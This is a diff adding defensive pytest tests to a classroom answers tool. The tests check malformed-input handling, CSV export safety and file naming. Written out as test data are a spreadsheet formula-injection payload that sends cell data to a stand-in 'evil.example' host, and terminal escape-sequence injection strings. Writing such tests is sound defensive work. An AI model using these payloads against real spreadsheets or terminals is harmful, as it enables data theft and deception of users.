@@ -333,3 +333,127 @@ def test_the_docstring_examples_run(module):
 
     result = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
     assert result.attempted > 0 and result.failed == 0
+
+
+# ---- hostile hand-ins and a teacher's slip -----------------------------------------------------
+
+
+def _line(**changes) -> str:
+    line = {"format": answers.FORMAT, "student": "Eve", "session": "0badc0de", "seq": 1,
+            "question": "exercise:0000000000", "prompt": "2 + 3 = ?", "kind": "exercise",
+            "answer": "6", "read": 6.0, "right": False,
+            "time": "2026-12-01T14:30:05.123+00:00"}  # fmt: skip
+    line.update(changes)
+    return json.dumps(line)
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "[" * 100_000,  # RecursionError in json.loads
+        "{" * 100_000,
+        _line(read=10**400),  # OverflowError when read as a float
+        _line(seq=2, read=-(10**400)),
+        '{"format": "autograd_viz.answers/1", "read": ' + "9" * 5000 + "}",  # int digit limit
+        _line(time=["2026"]),
+        _line(read="6"),
+        "null",
+        "[1, 2]",
+    ],
+    ids=str.split(
+        "brackets braces huge-read huge-negative-read 5000-digits time-list read-text null list"
+    ),
+)
+def test_a_malformed_line_is_skipped_with_a_warning(class_folder, capsys, bad):
+    (class_folder / "eve.answers.jsonl").write_text(_line(seq=3) + "\n" + bad + "\n")
+    with pytest.warns(SkippedAnswersWarning, match=r"eve.answers.jsonl: skipped line\(s\) 2"):
+        rows = class_answers(class_folder)
+    assert {r.prompt: r.learners for r in rows}[QUESTION] == 3  # the class's table is whole
+    assert main([str(class_folder)]) == 0
+    assert "eve.answers.jsonl: skipped line(s) 2" in capsys.readouterr().err
+
+
+def test_learners_text_cannot_drive_the_teachers_terminal(class_folder, capsys):
+    evil = "\x1b]0;pwned\x07\x1b[2J\x9b31m5\u202e"
+    (class_folder / "eve\x1b[31m.answers.jsonl").write_text(
+        _line(prompt="Eve's question\x1b[8m", answer=evil, read=None) + "\n" + "not json\n"
+    )
+    assert main([str(class_folder)]) == 0
+    printed = capsys.readouterr()
+    for stream in (printed.out, printed.err):
+        assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 for c in stream)
+        assert "\u202e" not in stream
+    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m5\\u202e (1 of 1)" in printed.out
+    assert "Eve's question\\x1b[8m" in printed.out
+    assert "eve\\x1b[31m.answers.jsonl" in printed.err
+
+
+def test_the_csv_keeps_learners_text_from_running_as_a_formula(class_folder, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for k, (student, typed) in enumerate([("Eve", formula), ("Mal", formula),
+                                          ("Oz", formula), ("Pi", formula)]):  # fmt: skip
+        (class_folder / f"{student}.answers.jsonl").write_text(
+            _line(
+                student=student,
+                session=f"s{k}",
+                answer=typed,
+                read=None,
+                question=question_id("exercise", QUESTION),
+                prompt=QUESTION,
+            )
+            + "\n"
+        )
+    out = tmp_path / "table.csv"
+    assert main([str(class_folder), "--csv", str(out)]) == 0
+    table = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert table[0]["most_common_wrong_answer"] == "'" + formula
+    for typed in ["+1+1", "@SUM(A1)", "\tx", "\r=1", "-2+3"]:
+        assert classroom.csv_cell(typed) == "'" + typed
+    for typed in ["-3", "+2.5e-1", "5", "∂z/∂y", ""]:  # plain numbers and text stay as typed
+        assert classroom.csv_cell(typed) == typed
+
+
+def test_the_csv_never_replaces_a_hand_in_and_a_missing_folder_is_said_first(
+    class_folder, tmp_path, capsys
+):
+    ada = class_folder / "ada.answers.jsonl"
+    before = ada.read_bytes()
+    for target in [ada, class_folder / "table.csv", tmp_path / "elsewhere.answers.jsonl"]:
+        assert main([str(class_folder), "--csv", str(target)]) == 1
+        printed = capsys.readouterr()
+        assert printed.out == ""  # refused before the table is printed
+        assert "would replace what was handed in" in printed.err
+    assert ada.read_bytes() == before
+    assert not (class_folder / "table.csv").exists()
+    assert main([str(class_folder), "--csv", str(tmp_path / "missing" / "out.csv")]) == 1
+    printed = capsys.readouterr()
+    assert printed.out == "" and "Traceback" not in printed.err
+    assert "the folder" in printed.err and "does not exist" in printed.err
+    with pytest.raises(classroom.ClassroomError, match="answers file"):
+        classroom.write_csv(class_answers(class_folder), ada)
+    assert ada.read_bytes() == before
+
+
+def test_a_failed_csv_write_leaves_the_old_table(class_folder, tmp_path, monkeypatch):
+    out = tmp_path / "table.csv"
+    out.write_text("the old table\n")
+
+    def full_disk(*args, **kwargs):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, "fsync", full_disk)
+    with pytest.raises(classroom.ClassroomError, match="No space left"):
+        classroom.write_csv(class_answers(class_folder), out)
+    assert out.read_text() == "the old table\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["answers", "table.csv"]
+
+
+def test_a_very_long_student_name_gets_a_safe_file_name(tmp_path):
+    rec = record_answers(student="A" * 300)
+    assert rec.path.exists() and len(rec.path.name.encode()) < 255
+    assert rec.student == "A" * 300  # the full name is what the lines carry
+    other = record_answers(student="A" * 299 + "B")
+    assert other.path != rec.path  # two long names sharing a beginning stay apart
+    assert len(record_answers(student="é" * 300).path.name.encode()) < 255
+    with pytest.raises(AnswersError, match="cannot write the answers file"):
+        record_answers("B" * 300 + ".answers.jsonl")
